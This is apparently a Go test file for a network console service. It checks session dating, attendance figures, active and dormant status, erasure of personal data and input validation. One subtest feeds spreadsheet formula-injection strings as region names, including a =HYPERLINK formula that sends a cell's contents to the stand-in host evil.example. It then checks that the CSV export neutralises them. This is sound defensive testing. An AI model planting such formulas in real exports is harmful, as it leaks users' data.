package console_test

// The console's figures as issues 13 and 14 asked for them: dated by when sessions took
// place, attendance over the roster, active and dormant derived, nothing of an erased person
// written again, CSV cells a spreadsheet cannot run, bad input answered 400.

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/copnet/copnet/pkg/events"
	"github.com/copnet/copnet/pkg/httpx"
	"github.com/copnet/copnet/pkg/postgres"
	"github.com/copnet/copnet/services/console/internal/projection"
)

// stamped is an event with the time its envelope carries.
type stamped struct {
	at time.Time
	ev events.Event
}

var stampSeq int

// applyAt applies events to the console's projection in pool, as the consumers would, each
// with its own envelope time.
func applyAt(t *testing.T, pool *pgxpool.Pool, evs ...stamped) {
	t.Helper()
	ctx := context.Background()
	for _, s := range evs {
		stampSeq++
		env := events.Envelope{ID: fmt.Sprintf("applied-%06d", stampSeq), Type: s.ev.EventName().Type(), Source: "national", Time: s.at}
		if err := postgres.Tx(ctx, pool, func(tx pgx.Tx) error { return projection.Apply(ctx, tx, s.ev, env) }); err != nil {
			t.Fatalf("apply %s: %v", env.Type, err)
		}
	}
}

// regionRead reads GET /v1/network/regions/{id} as national.
func regionRead(t *testing.T, base interface {
	JSON(testing.TB, string, string, string, any, any) int
}, tok, id string) projection.RegionDetail {
	t.Helper()
	var d projection.RegionDetail
	if st := base.JSON(t, "GET", "/v1/network/regions/"+id, tok, nil, &d); st != http.StatusOK {
		t.Fatalf("region %s: status %d", id, st)
	}
	return d
}

func healthOf(t *testing.T, d projection.RegionDetail, cop string) projection.CoPHealth {
	t.Helper()
	i := slices.IndexFunc(d.Health, func(h projection.CoPHealth) bool { return h.ID == cop })
	if i < 0 {
		t.Fatalf("region %s has no health row for %s: %+v", d.ID, cop, d.Health)
	}
	return d.Health[i]
}

func approvedCoP(region, cop string, at time.Time) []stamped {
	return []stamped{
		{at, events.RegionCreated{RegionID: region, Name: "Region " + region}},
		{at, events.CoPProposed{CoPID: cop, Region: region, Name: "CoP " + cop, Scope: "local", Topics: []string{"t"},
			HostOrganisations: []string{"o"}, Stage: "potential"}},
		{at, events.CoPApproved{CoPID: cop, Region: region}},
	}
}

func TestConsoleFigures(t *testing.T) {
	n := startConsole(t)
	pool := n.Pool("console")
	nat := national(t, n)
	now := time.Now().UTC()
	day := 24 * time.Hour

	// A session marked held today that took place four months ago is a session of four
	// months ago: it is not "held in the last 90 days", it is not the last session, and its
	// figures take its own place in the trends. Attendance divides by the roster.
	t.Run("dated by when sessions took place", func(t *testing.T) {
		evs := approvedCoP("bt", "bt1", now.Add(-300*day))
		evs = append(evs,
			// Backfilled: took place 120 days ago, marked held an hour ago.
			stamped{now.Add(-time.Hour), events.SessionHeld{SessionID: "bt-old", CoPID: "bt1", ProgramID: "pg", Number: 1,
				HeldAt: now.Add(-time.Hour), StartsAt: now.Add(-120 * day)}},
			stamped{now.Add(-time.Hour), events.AttendanceRecorded{SessionID: "bt-old", CoPID: "bt1", Attended: 4, Members: 5,
				StartsAt: now.Add(-120 * day), Records: []events.Attendance{}}},
			// Took place 10 days ago as scheduled; its session_held (an older producer) says
			// only when it was marked held, two hours ago.
			stamped{now.Add(-20 * day), events.SessionScheduled{SessionID: "bt-new", ProgramID: "pg", CoPID: "bt1", Number: 2,
				StartsAt: now.Add(-10 * day), EndsAt: now.Add(-10*day + time.Hour), Timezone: "UTC"}},
			stamped{now.Add(-2 * time.Hour), events.SessionHeld{SessionID: "bt-new", CoPID: "bt1", ProgramID: "pg", Number: 2,
				HeldAt: now.Add(-2 * time.Hour)}},
			stamped{now.Add(-2 * time.Hour), events.AttendanceRecorded{SessionID: "bt-new", CoPID: "bt1", Attended: 3, Apologies: 1,
				Records: []events.Attendance{}}},
			// The recent session's evaluation was published first, the old one's later: by
			// session time the old one comes first.
			stamped{now.Add(-90 * time.Minute), events.ResultsPublished{PollID: "bt-e-new", CoPID: "bt1", SessionID: "bt-new",
				Kind: "evaluation", Purpose: "evaluation", Responses: 6,
				Results: map[string]any{"questions": []any{map[string]any{"key": "confidence", "kind": "scale", "mean": 4.0}}}}},
			stamped{now.Add(-30 * time.Minute), events.ResultsPublished{PollID: "bt-e-old", CoPID: "bt1", SessionID: "bt-old",
				Kind: "evaluation", Purpose: "evaluation", Responses: 6,
				Results: map[string]any{"questions": []any{map[string]any{"key": "confidence", "kind": "scale", "mean": 2.0}}}}},
		)
		applyAt(t, pool, evs...)

		d := regionRead(t, n, nat, "bt")
		if d.SessionsHeld90d != 1 {
			t.Errorf("region sessions held in 90 days = %d, want 1 (the backfilled one took place 120 days ago)", d.SessionsHeld90d)
		}
		if !slices.Equal(d.AttendanceTrend, []float64{0.8, 0.75}) {
			t.Errorf("attendance trend = %v, want [0.8 0.75]: 4 of 5 on the roster, then 3 of 4 recorded (no roster size), by session time", d.AttendanceTrend)
		}
		if !slices.Equal(d.ConfidenceTrend, []float64{2, 4}) {
			t.Errorf("confidence trend = %v, want [2 4]: dated by their sessions, not by when they were published", d.ConfidenceTrend)
		}
		h := healthOf(t, d, "bt1")
		if h.LastSessionAt == nil || !h.LastSessionAt.Equal(now.Add(-10*day).Truncate(time.Microsecond)) {
			t.Errorf("last session at %v, want %v (when it took place, not when it was marked held)", h.LastSessionAt, now.Add(-10*day))
		}
		if h.SessionsHeld90d != 1 {
			t.Errorf("CoP sessions held in 90 days = %d, want 1", h.SessionsHeld90d)
		}
		b := newBrowser(t, n.URL)
		b.signIn(nat)
		page := b.get("/cops/bt1")
		if !strings.Contains(page.body, "4 of 5") || !strings.Contains(page.body, date(now.Add(-120*day))) {
			t.Errorf("CoP page lacks the backfilled session as 4 of 5 on %s", date(now.Add(-120*day)))
		}
	})

	// The registry stores approved; the console shows whether an approved CoP meets.
	t.Run("active and dormant", func(t *testing.T) {
		var evs []stamped
		evs = append(evs, approvedCoP("ad", "ad-active", now.Add(-200*day))...)
		evs = append(evs, approvedCoP("ad", "ad-dormant", now.Add(-200*day))...)
		evs = append(evs, approvedCoP("ad", "ad-never", now.Add(-120*day))...)
		evs = append(evs, approvedCoP("ad", "ad-new", now.Add(-5*day))...)
		evs = append(evs,
			stamped{now.Add(-10 * day), events.SessionHeld{SessionID: "ad-s1", CoPID: "ad-active", ProgramID: "pg", Number: 1,
				HeldAt: now.Add(-10 * day), StartsAt: now.Add(-10 * day)}},
			// Marked held today, took place 100 days ago: it does not make the CoP active.
			stamped{now.Add(-time.Hour), events.SessionHeld{SessionID: "ad-s2", CoPID: "ad-dormant", ProgramID: "pg", Number: 1,
				HeldAt: now.Add(-time.Hour), StartsAt: now.Add(-100 * day)}},
		)
		applyAt(t, pool, evs...)
		d := regionRead(t, n, nat, "ad")
		want := map[string]int{"proposed": 0, "approved": 1, "active": 1, "dormant": 2, "declined": 0, "retired": 0}
		if fmt.Sprint(d.CoPsByStatus) != fmt.Sprint(want) {
			t.Errorf("CoPs by status = %v, want %v", d.CoPsByStatus, want)
		}
		if d.Onboarding.Approved != 4 {
			t.Errorf("onboarding approved = %d, want 4 (active and dormant CoPs were approved)", d.Onboarding.Approved)
		}
		for cop, status := range map[string]string{"ad-active": "active", "ad-dormant": "dormant", "ad-never": "dormant", "ad-new": "approved"} {
			if got := healthOf(t, d, cop).Status; got != status {
				t.Errorf("%s status = %q, want %q", cop, got, status)
			}
		}
		s := summary(t, n)
		i := slices.IndexFunc(s.Regions, func(r projection.RegionFigures) bool { return r.ID == "ad" })
		if i < 0 || fmt.Sprint(s.Regions[i].CoPsByStatus) != fmt.Sprint(want) {
			t.Errorf("summary's CoPs by status for ad differ from the region read")
		}
		b := newBrowser(t, n.URL)
		b.signIn(nat)
		page := b.get("/regions/ad")
		if !strings.Contains(page.body, `data-figure="status">Dormant<`) || !strings.Contains(page.body, `data-figure="status">Active<`) {
			t.Errorf("region page does not show active and dormant CoPs")
		}
		if nat := b.get("/"); figure(between(nat.body, `id="region-ad"`, "</article>"), "cops_by_status.dormant") != "2" {
			t.Errorf("national page does not count the dormant CoPs")
		}
	})

	// A member_joined or member_left consumed after person_erased (each event type has its
	// own consumer, so this happens) writes nothing of the person again.
	t.Run("nothing of an erased person is written again", func(t *testing.T) {
		evs := approvedCoP("er", "er1", now.Add(-time.Hour))
		evs = append(evs,
			stamped{now.Add(-50 * time.Minute), events.MemberJoined{CoPID: "er1", Region: "er", PersonID: "er-p1", CodeOfPracticeVersion: 1}},
			stamped{now.Add(-40 * time.Minute), events.MemberJoined{CoPID: "er1", Region: "er", PersonID: "er-p2", CodeOfPracticeVersion: 1}},
			stamped{now.Add(-30 * time.Minute), events.PersonErased{PersonID: "er-p1"}},
			stamped{now.Add(-20 * time.Minute), events.PersonErased{PersonID: "er-p3"}},
			// Late: joins and a leave of the erased people, with later times.
			stamped{now.Add(-10 * time.Minute), events.MemberJoined{CoPID: "er1", Region: "er", PersonID: "er-p1", CodeOfPracticeVersion: 2}},
			stamped{now.Add(-9 * time.Minute), events.MemberJoined{CoPID: "er1", Region: "er", PersonID: "er-p3", CodeOfPracticeVersion: 1}},
			stamped{now.Add(-8 * time.Minute), events.MemberLeft{CoPID: "er1", Region: "er", PersonID: "er-p3", Reason: "left"}},
		)
		applyAt(t, pool, evs...)
		if h := healthOf(t, regionRead(t, n, nat, "er"), "er1"); h.Members != 1 {
			t.Errorf("er1 members = %d, want 1 (er-p2 only)", h.Members)
		}
		for _, p := range []string{"er-p1", "er-p3"} {
			var rows int
			if err := pool.QueryRow(context.Background(), `SELECT count(*) FROM memberships WHERE person_key = $1`, digest(p)).Scan(&rows); err != nil {
				t.Fatal(err)
			}
			if rows != 0 {
				t.Errorf("%d membership rows keep erased %s's digest", rows, p)
			}
		}
	})

	// A region name is anyone's input: in the CSV it must not become a formula.
	t.Run("csv cells are never formulas", func(t *testing.T) {
		names := map[string]string{
			"zz-eq": `=HYPERLINK("https://evil.example/?"&A1,"Click")`, "zz-plus": "+SUM(1,2)", "zz-minus": "-2+3",
			"zz-at": "@cmd", "zz-tab": "\t=1", "zz-cr": "\r=1", "zz-ok": "Northland = North",
		}
		var evs []stamped
		for id, name := range names {
			evs = append(evs, stamped{now, events.RegionCreated{RegionID: id, Name: name}})
		}
		applyAt(t, pool, evs...)
		st, raw := n.Do(t, "GET", "/v1/network/summary.csv", nat, nil)
		if st != http.StatusOK {
			t.Fatalf("csv: %d", st)
		}
		rows, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, row := range rows {
			name, ok := names[row[0]]
			if !ok {
				continue
			}
			seen++
			want := name
			if row[0] != "zz-ok" {
				want = "'" + name
			}
			if row[1] != want {
				t.Errorf("region %s written as %q, want %q", row[0], row[1], want)
			}
		}
		if seen != len(names) {
			t.Errorf("csv has %d of the %d regions", seen, len(names))
		}
	})

	t.Run("bad input is a 400 naming the field", func(t *testing.T) {
		for _, path := range []string{"/v1/network/regions/a%00b", "/v1/network/regions/" + strings.Repeat("r", 201),
			"/v1/network/regions/%ff"} {
			st, raw := n.Do(t, "GET", path, nat, nil)
			var p httpx.Problem
			_ = json.Unmarshal(raw, &p)
			if st != http.StatusBadRequest || len(p.Errors) != 1 || p.Errors[0].Field != "id" {
				t.Errorf("GET %s = %d %s, want 400 naming id", path, st, raw)
			}
		}
		b := newBrowser(t, n.URL)
		b.signIn(nat)
		if p := b.get("/cops/a%00b"); p.status != http.StatusBadRequest {
			t.Errorf("CoP page with a NUL in its id: %d, want 400", p.status)
		}
		csrf := b.cookie("copnet_csrf")
		for form, field := range map[string]url.Values{
			"decision": {"csrf": {csrf}, "decision": {"delete"}},
			"reason":   {"csrf": {csrf}, "decision": {"decline"}, "reason": {"no\x00"}},
		} {
			p := b.post("/cops/bt1/decision", field, nil)
			var prob httpx.Problem
			_ = json.Unmarshal([]byte(p.body), &prob)
			if p.status != http.StatusBadRequest || len(prob.Errors) == 0 || prob.Errors[0].Field != form ||
				!strings.HasPrefix(p.header.Get("Content-Type"), "application/problem+json") {
				t.Errorf("decision with a bad %s: %d %s, want a 400 problem naming it", form, p.status, p.body)
			}
		}
	})
}

// digest is the console's person key (projection.personKey), recomputed to look for it.
func digest(person string) string {
	sum := sha256.Sum256([]byte("copnet-console-member:" + person))
	return hex.EncodeToString(sum[:])
}

func date(t time.Time) string { return t.UTC().Format("2 Jan 2006") }
